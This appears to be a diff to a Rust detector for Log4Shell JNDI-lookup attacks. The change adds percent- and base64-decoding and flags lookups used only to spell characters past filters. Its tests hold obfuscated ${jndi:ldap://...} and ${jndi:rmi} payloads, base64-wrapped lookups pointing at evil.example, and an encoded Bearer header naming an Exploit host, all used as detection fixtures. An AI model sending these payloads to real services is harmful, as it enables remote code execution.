@@ -37,19 +37,70 @@ impl Check for Jndi {
     }
 
     fn inspect(&self, input: &Input<'_>) -> Option<Finding> {
-        if !input.bytes.all(b"${:") {
+        // A field the engine gives no decoded view (a credential header such as
+        // Authorization) can still hold `%24%7B...`: undo up to three percent layers here.
+        let decoded;
+        let text = if input.bytes.all(b"${:") {
+            input.text.as_bytes()
+        } else if input.bytes.all(b"%24") && has_encoded_open(input.text.as_bytes()) {
+            let mut t = input.text.as_bytes().to_vec();
+            for _ in 0..3 {
+                if !t.contains(&b'%') {
+                    break;
+                }
+                t = crate::mail::percent_decode(&t);
+            }
+            decoded = t;
+            &decoded[..]
+        } else {
             return None;
-        }
-        let level = scan(input.text.as_bytes())?;
-        (level <= input.sensitivity).then_some(Finding { reason: "deserialization:jndi-lookup", score: 0.95, level })
+        };
+        let (level, reason) = match scan(text, 0) {
+            Scan { jndi: Some(level), .. } => (level, "deserialization:jndi-lookup"),
+            Scan { spelled: true, .. } => (1, "deserialization:log4j-obfuscation"),
+            _ => return None,
+        };
+        (level <= input.sensitivity).then_some(Finding { reason, score: 0.95, level })
     }
 }
 
-/// The lowest level of a JNDI lookup in `text`: 1 for a known protocol, 2 for `jndi:` followed
-/// by something else (a protocol spelled by a lookup Log4j would resolve from the environment).
-fn scan(text: &[u8]) -> Option<u8> {
+/// `%24` (or `%2524`...) right before `{`/`%7B`: an encoded lookup opener.
+fn has_encoded_open(b: &[u8]) -> bool {
+    b.windows(5).any(|w| w[0] == b'%' && (w[1..3] == *b"24" || w[1..3] == *b"25"))
+        && b.windows(3).any(|w| w[0] == b'%' && (w[1..] == *b"7B" || w[1..] == *b"7b" || w[1..] == *b"25"))
+}
+
+/// What [`scan`] found.
+#[derive(Default, Debug, PartialEq)]
+struct Scan {
+    /// The lowest level of a JNDI lookup: 1 for a known protocol, 2 for `jndi:` followed by
+    /// something else (a protocol spelled by a lookup Log4j would resolve from the environment).
+    jndi: Option<u8>,
+    /// A lookup whose only use is to spell a character past a filter: `${lower:j}`,
+    /// `${upper:ı}`, `${::-j}`, `${:-j}`, `${date:'j'}`. No template needs one (a case lookup
+    /// of one literal letter, a default with no variable name, a date pattern of quoted
+    /// literals only), so one is a Log4Shell probe even when the rest was cut off.
+    spelled: bool,
+}
+
+impl Scan {
+    fn note(&mut self, level: u8) {
+        self.jndi = Some(self.jndi.map_or(level, |b| b.min(level)));
+    }
+}
+
+/// Nested evaluation: a lookup's value that holds another `${` (a `${base64:...}` decoding to
+/// a lookup) is scanned again, this many times at most.
+const MAX_RESCAN: usize = 2;
+
+fn scan(text: &[u8], rescan: usize) -> Scan {
+    let mut found = Scan::default();
+    scan_into(text, rescan, &mut found);
+    found
+}
+
+fn scan_into(text: &[u8], rescan: usize, found: &mut Scan) {
     let mut stack: Vec<Vec<u8>> = Vec::new();
-    let mut best: Option<u8> = None;
     let mut i = 0;
     while i < text.len() {
         let b = text[i];
@@ -61,13 +112,26 @@ fn scan(text: &[u8]) -> Option<u8> {
         if b == b'}' {
             if let Some(body) = stack.pop() {
                 if let Some(level) = jndi_level(&body) {
-                    best = Some(best.map_or(level, |b: u8| b.min(level)));
+                    found.note(level);
                     if level == 1 {
-                        return best;
+                        return;
+                    }
+                }
+                let mut value = Vec::new();
+                found.spelled |= evaluate(&body, &mut value);
+                if rescan < MAX_RESCAN && find(&value, b"${").is_some() {
+                    let inner = scan(&value, rescan + 1);
+                    found.spelled |= inner.spelled;
+                    if let Some(level) = inner.jndi {
+                        found.note(level);
+                        if level == 1 {
+                            return;
+                        }
                     }
                 }
                 if let Some(parent) = stack.last_mut() {
-                    evaluate(&body, parent);
+                    let room = KEEP.saturating_sub(parent.len());
+                    parent.extend_from_slice(&value[..value.len().min(room)]);
                 }
                 i += 1;
                 continue;
@@ -84,10 +148,9 @@ fn scan(text: &[u8]) -> Option<u8> {
     // attacker's own encoding) still shows its intent.
     for body in &stack {
         if let Some(level) = jndi_level(body) {
-            best = Some(best.map_or(level, |b: u8| b.min(level)));
+            found.note(level);
         }
     }
-    best
 }
 
 /// `Some(level)` when a lookup's evaluated text is a JNDI lookup.
@@ -97,8 +160,10 @@ fn jndi_level(body: &[u8]) -> Option<u8> {
         return None;
     }
     let rest = trim_start(&body[5..]);
+    // `${jndi:rmi}` closed early by a stray `}` (`...${lower:r}m${lower:i}}://host/a}`) still
+    // names the protocol: the attacker's intent, whatever Log4j makes of the rest.
     let known = PROTOCOLS.iter().any(|p| {
-        rest.len() > p.len() && rest[..p.len()].eq_ignore_ascii_case(p.as_bytes()) && rest[p.len()] == b':'
+        rest.len() >= p.len() && rest[..p.len()].eq_ignore_ascii_case(p.as_bytes()) && matches!(rest.get(p.len()), Some(b':') | None)
     });
     Some(if known { 1 } else { 2 })
 }
@@ -109,10 +174,11 @@ fn trim_start(text: &[u8]) -> &[u8] {
 }
 
 /// Appends what Log4j substitutes for the lookup `${body}` to `out` (at most [`KEEP`] bytes
-/// kept): a case lookup's converted argument, a date pattern's quoted literals, an unknown
-/// variable's `:-` default; any other lookup stays as written, so its text cannot spell
-/// anything.
-fn evaluate(body: &[u8], out: &mut Vec<u8>) {
+/// kept): a case lookup's converted argument, a date pattern's quoted literals, a
+/// `base64:` argument decoded, an unknown variable's `:-` default; any other lookup stays as
+/// written, so its text cannot spell anything. Returns whether the lookup only spells a
+/// character (see [`Scan::spelled`]).
+fn evaluate(body: &[u8], out: &mut Vec<u8>) -> bool {
     let room = KEEP.saturating_sub(out.len());
     let (name, default) = match find(body, b":-") {
         Some(at) => (&body[..at], Some(&body[at + 2..])),
@@ -122,13 +188,23 @@ fn evaluate(body: &[u8], out: &mut Vec<u8>) {
         Some(at) => (&name[..at], &name[at + 1..]),
         None => (&[][..], name),
     };
-    // Log4j splits off the `:-` default before it resolves the lookup, so `${lower:J:-x}` is `j`.
-    let value: Vec<u8> = if prefix.eq_ignore_ascii_case(b"lower") {
-        case_map(arg, false)
-    } else if prefix.eq_ignore_ascii_case(b"upper") {
-        case_map(arg, true)
+    let one_char = |t: &[u8]| !t.is_empty() && String::from_utf8_lossy(t).chars().count() == 1;
+    let case = prefix.eq_ignore_ascii_case(b"lower") || prefix.eq_ignore_ascii_case(b"upper");
+    let spelled = (case && (one_char(arg) || arg.is_empty() && default.is_some_and(one_char)))
+        || (name.iter().all(|&b| b == b':') && default.is_some_and(|d| !d.is_empty() && d.len() <= 4))
+        || (prefix.eq_ignore_ascii_case(b"date") && arg.first() == Some(&b'\'') && arg.last() == Some(&b'\'') && arg.len() <= 6);
+    // Log4j splits off the `:-` default before it resolves the lookup, so `${lower:J:-x}` is `j`;
+    // `${upper::-j}` has nothing to convert and is read as its default, converted.
+    let value: Vec<u8> = if case {
+        let upper = prefix.eq_ignore_ascii_case(b"upper");
+        match default {
+            Some(d) if arg.is_empty() => case_map(d, upper),
+            _ => case_map(arg, upper),
+        }
     } else if prefix.eq_ignore_ascii_case(b"date") {
         quoted_literals(arg)
+    } else if prefix.eq_ignore_ascii_case(b"base64") {
+        crate::base64::decode(arg.trim_ascii()).unwrap_or_default()
     } else if let Some(default) = default {
         // `${::-j}`, `${env:NOPE:-j}`, `${sys:x:-n}`, `${foo:-j}`: the variable is unset on the
         // attacked host (the attacker picks a name that is), so Log4j yields the default.
@@ -140,6 +216,7 @@ fn evaluate(body: &[u8], out: &mut Vec<u8>) {
         kept
     };
     out.extend_from_slice(&value[..value.len().min(room)]);
+    spelled
 }
 
 /// Java's case mapping of the text; non-ASCII letters map as Java maps them (`ı` upper-cases to
@@ -173,7 +250,11 @@ mod tests {
     use super::scan;
 
     fn level(text: &str) -> Option<u8> {
-        scan(text.as_bytes())
+        scan(text.as_bytes(), 0).jndi
+    }
+
+    fn spelled(text: &str) -> bool {
+        scan(text.as_bytes(), 0).spelled
     }
 
     #[test]
@@ -188,6 +269,29 @@ mod tests {
         assert_eq!(level("${${lower:${lower:${lower:j}}}ndi:iiop://x}"), Some(1));
         assert_eq!(level("${jndi:ldap://x/${env:USER}"), Some(1));
         assert_eq!(level("${jndi:${env:P}://x}"), Some(2));
+        assert_eq!(level("${${upper::-j}${upper::-n}${::-d}${upper::-i}:${upper::-l}dap://x/a}"), Some(1));
+        assert_eq!(level("${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://x/poc}"), Some(1));
+        assert_eq!(level("${${base64:am5kaTpsZGFwOi8vZXZpbC5leGFtcGxlL2E=}}"), Some(1));
+        assert_eq!(level("${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}"), Some(1));
+        assert_eq!(level("$${jndi:ldap://x/a}"), Some(1));
+    }
+
+    #[test]
+    fn percent_encoded_in_a_field_without_a_decoded_view() {
+        use crate::{Check, Input};
+        let input = Input::new("Bearer%20%24%7BjNdi%3ANis%3A%2F%2F198.51.100.198%3A80%2FExploit%7D");
+        assert!(super::Jndi.inspect(&input).is_some());
+        assert!(super::Jndi.inspect(&Input::new("100%25 of %7Bitems%7D")).is_none());
+    }
+
+    #[test]
+    fn spelling_lookups_alone() {
+        for text in ["${lower:j}", "a${upper:ı}b", "${::-n}", "${:-d}", "${date:'i'}", "${upper::-j}"] {
+            assert!(spelled(text), "{text}");
+        }
+        for text in ["${lower:World}", "${env:HOME:-/root}", "${name:-world}", "${date:yyyy-MM-dd}", "${sys:user.home}"] {
+            assert!(!spelled(text), "{text}");
+        }
     }
 
     #[test]
